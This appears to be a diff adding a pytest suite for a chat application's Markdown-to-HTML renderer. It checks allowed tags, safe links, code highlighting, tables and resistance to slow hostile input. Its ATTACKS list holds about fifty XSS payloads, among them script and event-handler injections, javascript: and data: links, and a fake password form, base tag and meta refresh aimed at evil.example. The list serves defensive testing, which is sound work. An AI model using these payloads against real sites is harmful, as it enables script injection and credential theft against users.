@@ -1,0 +1,186 @@
+"""Markdown becomes the HTML that the stylesheet knows, and nothing that a page must not hold."""
+
+import time
+from html.parser import HTMLParser
+
+import pytest
+
+from conversations.rendering import HIGHLIGHT_LIMIT, render
+
+TAGS = {
+    "a", "blockquote", "br", "code", "del", "div", "em", "figcaption", "figure", "h3", "h4", "h5", "h6", "hr", "li",
+    "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
+}  # fmt: skip
+ATTRIBUTES = {"aria-label", "class", "href", "rel", "role", "scope", "start", "tabindex", "target", "title"}
+
+# What has opened other chats: HTML, SVG, MathML, links, images, references, fences, entities, broken nesting.
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
+    "<style>*{display:none}</style>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<p style='position:fixed;inset:0'>x</p>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<template><script>alert(1)</script></template>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#x73;cript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](  javascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](\tjavascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example)",
+    "[x](/accounts/logout/)",
+    "[x](?q=1)",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/pixel.png)",
+    "![x](data:image/png;base64,iVBORw0KGgo=)",
+    '![" onerror=alert(1) x="](https://evil.example/"onerror="alert(1))',
+    "[![x](https://evil.example/a.png)](javascript:alert(1))",
+    "[x](https://e.example '\" onmouseover=\"alert(1)')",
+    '[x](https://e.example/" onmouseover="alert(1))',
+    "[x][y]\n\n[y]: javascript:alert(1)",
+    "[x][y]\n\n[y]: https://e.example '\"><script>alert(1)</script>'",
+    '```"><script>alert(1)</script>\nx\n```',
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    '```x" onclick="alert(1)\n<b>\n```',
+    "    </code></pre><img src=x onerror=alert(1)>",
+    "`<img src=x onerror=alert(1)>`",
+    '| <script>alert(1)</script> | " onclick=alert(1) |\n|---|--:|\n| <img src=x onerror=alert(1)> | x |',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "# <script>alert(1)</script>",
+    "> <svg/onload=alert(1)>",
+    "**<b onclick=alert(1)>x</b>**",
+    "\x00<script>\x00alert(1)</script>",
+    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
+    "\u202e<script>alert(1)</script>",
+]
+
+
+class Reader(HTMLParser):
+    """Collects the tags of a piece of HTML, and its text."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def check_safe(html: str) -> None:
+    """Only our own tags and attributes, and links that lead out and tell nothing."""
+    for tag, attributes in Reader(html).tags:
+        assert tag in TAGS
+        assert set(attributes) <= ATTRIBUTES
+        if tag == "a" and "href" in attributes:
+            assert str(attributes["href"]).startswith(("https://", "http://", "mailto:"))
+            assert attributes["rel"] == "noopener noreferrer nofollow"
+            assert attributes["target"] == "_blank"
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_that_runs_or_loads_comes_through(attack: str) -> None:
+    check_safe(render(attack))
+    check_safe(render(f"Before\n\n{attack}\n\n- item {attack}\n\n> {attack}"))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_cut_anywhere_is_as_safe(attack: str) -> None:
+    for cut in range(len(attack)):
+        check_safe(render(attack[:cut]))
+        check_safe(render(attack[cut:]))
+
+
+def test_html_in_a_text_is_shown_as_it_was_written() -> None:
+    assert render("a <b>bold</b> claim") == "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>\n"
+
+
+def test_headings_start_below_the_message_s_own() -> None:
+    assert (
+        render("# A\n## B\n### C\n#### D\n###### E") == "<h3>A</h3>\n<h4>B</h4>\n<h5>C</h5>\n<h6>D</h6>\n<h6>E</h6>\n"
+    )
+
+
+def test_code_names_its_language_and_is_coloured_by_the_stylesheet_s_classes() -> None:
+    html = render('```python\ndef f():  # why\n    return "<" + 1\n```')
+    assert '<figure class="code"><figcaption><span>python</span></figcaption>' in html
+    assert '<pre tabindex="0" role="region" aria-label="Python code: def f(): # why"><code>' in html
+    assert '<span class="k">def</span> f():  <span class="c"># why</span>' in html
+    assert '<span class="s">"&lt;"</span> + <span class="m">1</span></code></pre></figure>' in html
+
+
+@pytest.mark.parametrize("fence", ["```\n{}\n```", "```nosuchlanguage\n{}\n```", "    {}"])
+def test_code_without_a_known_language_is_plain(fence: str) -> None:
+    assert "<code>def f(): pass</code>" in render(fence.format("def f(): pass"))
+
+
+def test_code_keeps_every_character() -> None:
+    code = "\n\n  a\t<b> &amp; 'c'\n\n"
+    assert Reader(render(f"```python\n{code}\n```")).text.removeprefix("python").strip("\n") == code.strip("\n")
+    assert f"<code>{'x' * (HIGHLIGHT_LIMIT + 1)}</code>" in render(f"```python\n{'x' * (HIGHLIGHT_LIMIT + 1)}\n```")
+
+
+def test_a_table_scrolls_in_itself_and_aligns_figures_without_style_attributes() -> None:
+    html = render("| Way | Time |\n|---|--:|\n| a | 1 s |")
+    assert '<div class="scroll" tabindex="0" role="region" aria-label="Table: Way, Time"><table>' in html
+    assert '<th scope="col">Way</th>\n<th scope="col" class="n">Time</th>' in html
+    assert '<td>a</td>\n<td class="n">1 s</td>' in html
+    assert "style" not in html
+
+
+def test_an_image_is_a_link_and_is_not_loaded() -> None:
+    html = render("![a chart](https://e.example/c.png)")
+    assert "<img" not in html
+    assert '<a href="https://e.example/c.png"' in html
+    assert ">Image: a chart</a>" in html
+    assert render("[![logo](https://e.example/c.png)](https://e.example)").count("<a ") == 1
+
+
+def test_a_link_that_is_none_of_ours_keeps_its_words() -> None:
+    assert render("see [the page](/admin/)") == "<p>see <span>the page</span></p>\n"
+
+
+def test_lists_keep_their_first_number() -> None:
+    assert '<ol start="3">' in render("3. three\n4. four")
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ["[" * 5000, "![" * 5000, "*a " * 5000, "> " * 5000, "|a" * 5000 + "\n" + "|-" * 5000, "`" * 9999, "[a](b" * 4000],
+)
+def test_hostile_text_does_not_keep_the_renderer_busy(hostile: str) -> None:
+    started = time.process_time()
+    check_safe(render(hostile))
+    assert time.process_time() - started < 2
+
+
+def test_an_ordinary_answer_is_rendered_in_milliseconds() -> None:
+    answer = ("Some **text** with `code`.\n\n- one\n- two\n\n```python\nprint(1)\n```\n\n" * 30)[:2000]
+    render(answer)
+    started = time.process_time()
+    for _ in range(10):
+        render(answer)
+    assert (time.process_time() - started) / 10 < 0.02
